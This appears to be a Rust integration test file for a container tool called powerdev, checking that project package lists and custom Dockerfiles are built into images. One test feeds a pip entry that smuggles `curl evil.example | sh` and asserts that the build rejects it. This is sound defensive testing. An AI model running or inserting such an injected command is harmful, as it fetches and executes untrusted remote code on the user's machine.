//! What a project adds to powerdev's image: `packages:`, a Dockerfile that begins with it, `hooks:`.

use std::time::Duration;

use serde_json::{Value, json};

use crate::common::{Output, Project, core_image};

const BUILD: Duration = Duration::from_secs(600);

fn build(project: &Project) -> Output {
    project.powerdev(["build", "--json"]).deadline(BUILD).run()
}

/// What this command prints in the image that was built, on a container that is gone afterwards.
fn in_image(project: &Project, built: &Value, command: &str) -> String {
    let image = built["image"].as_str().expect("a tag");
    let name = format!("powerdev-{}-look", project.name());
    let output = std::process::Command::new("docker")
        .args(["run", "--rm", "--network", "none", "--name", &name, image, "bash", "-c", command])
        .output()
        .expect("the docker CLI runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("text")
}

#[test]
fn packages_are_added_to_an_image_of_the_projects_own() {
    let project = Project::bare();
    core_image::build(&project);
    let packages = |yaml: &str| project.write("powerdev.yaml", format!("packages: {{ {yaml} }}\n"));
    packages("apt: [hello], npm: [semver@7.5.4], pip: ['six==1.17.0']");
    let said = project.untrusted(["build", "--json"]).run().code(2).json();
    assert!(said["error"].as_str().is_some_and(|error| error.contains("apt hello, npm semver@7.5.4")), "{said}");
    let first = build(&project).ok().json();
    assert!(first["image"].as_str().is_some_and(|image| image.starts_with("powerdev/pt")), "{first}");
    let script = "hello -t; semver 1.2.3 -i minor; python3 -c 'import six; print(six.__version__)'; id -un; \
                  find /home/dev ! -user dev";
    assert_eq!(in_image(&project, &first, script), "hello, world\n1.3.0\n1.17.0\ndev\n");
    let again = build(&project).ok().json();
    assert_eq!((&again["up_to_date"], &again["id"]), (&json!(true), &first["id"]));

    packages("pip: ['six==1.16.0']");
    let other = build(&project).ok().json();
    assert_ne!(other["image"], first["image"]);
    assert_eq!(in_image(&project, &other, "python3 -c 'import six; print(six.__version__)'"), "1.16.0\n");
    packages("apt: [no-such-package-anywhere]");
    let said = build(&project).code(7).json();
    assert!(said["error"].as_str().is_some_and(|error| error.contains("no-such-package-anywhere")), "{said}");
    packages("apt: [hello], pip: ['six; curl evil.example | sh']");
    let said = build(&project).code(2).json();
    assert!(said["hint"].as_str().is_some_and(|hint| hint.contains("a package of PyPI")), "{said}");
}

#[test]
fn a_dockerfile_may_begin_with_powerdevs_image() {
    let project = Project::bare();
    core_image::build(&project);
    let dockerfile = "FROM powerdev/core\nUSER root\nRUN echo mine > /etc/mine\nUSER dev\n";
    project.write(".powerdev/Dockerfile", dockerfile);
    let built = build(&project).ok().json();
    assert_eq!(in_image(&project, &built, "cat /etc/mine; id -un; command -v claude-flow"), {
        "mine\ndev\n/usr/local/bin/claude-flow\n"
    });
    assert_eq!(build(&project).ok().json()["up_to_date"], true);
    project.write("powerdev.yaml", "packages: { apt: [hello] }\n");
    let said = build(&project).code(2).json();
    assert!(said["error"].as_str().is_some_and(|error| error.contains("this project has a Dockerfile")), "{said}");
}
